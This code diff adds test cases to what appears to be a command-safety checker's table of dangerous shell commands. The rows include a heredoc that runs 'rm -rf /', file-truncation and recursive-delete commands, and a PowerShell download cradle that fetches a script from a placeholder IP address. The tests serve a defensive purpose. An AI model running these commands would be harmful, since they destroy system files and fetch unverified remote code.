@@ -805,6 +805,16 @@ const EDGES: readonly [TargetOs, string, string | null, string, string][] = [
   ],
   ['linux', 'rm -rf /e*', 'recursive-delete-system-path', 'rm -rf /e*', 'rm would delete /e*'],
   ['linux', 'truncate -s 0 /e?c', null, 'truncate -s 0 /e?c', ''],
+  // A `<<-` heredoc feeds its body like `<<`; a download cradle's reason names the call it found.
+  ['linux', 'bash <<-EOF\n\trm -rf /\n\tEOF', 'recursive-delete-system-path', 'rm -rf /', 'rm would delete / (via bash <<heredoc)'],
+  ['linux', 'python3 <<-EOF\n\tprint(1)\n\tEOF', null, 'python3 <<-EOF\n\tprint(1)\n\tEOF', ''],
+  [
+    'windows',
+    'powershell "(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\') | Out-File a.ps1"',
+    'dynamic-code-expression',
+    'powershell "(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\') | Out-File a.ps1"',
+    '.DownloadString( runs code or touches files that cannot be checked',
+  ],
   // A delete run once per file under a protected path (issue 36, both allowed before): find -exec and its
   // kin put each start point where `{}` was, forfiles' file placeholders stand for every file under /p.
   // /var/log and a home stay allowed for find (routine clean-ups); a read, /tmp or D:\\data stay allowed.
